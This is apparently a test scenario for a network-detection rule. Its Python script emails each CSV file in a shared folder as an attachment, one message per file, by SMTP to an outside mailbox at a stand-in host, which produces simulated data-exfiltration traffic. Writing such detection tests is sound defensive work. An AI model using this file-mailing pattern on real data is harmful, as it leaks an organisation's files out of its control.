title='The wire beside an0380 fires.python-smtplib-direct'
what='The same program again: three files, each in a message of its own, by SMTP to 203.0.113.25 port 587. The capture is moved to the time of the recorded case.'
anchor=203.0.113.25:587 at=2026-11-21T09:57:35.294Z keep='dns smtp fileinfo flow'
prepare() {
  mkdir -p "$work/shared"; for i in 1 2 3; do seq 1 400 > "$work/shared/plan$i.csv"; done
  cat > "$work/worker.py" <<'P'
import glob, os, smtplib, time
from email.message import EmailMessage
for path in sorted(glob.glob("/scene/shared/*.csv")):
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "intern@example.org", "box17@example.com", os.path.basename(path)
    message.add_attachment(open(path, "rb").read(), maintype="text", subtype="csv", filename=os.path.basename(path))
    with smtplib.SMTP("smtp.example.com", 587) as client:
        client.send_message(message)
    time.sleep(2)
P
}
act() { in_root python3 /scene/worker.py; }
finish() { :; }
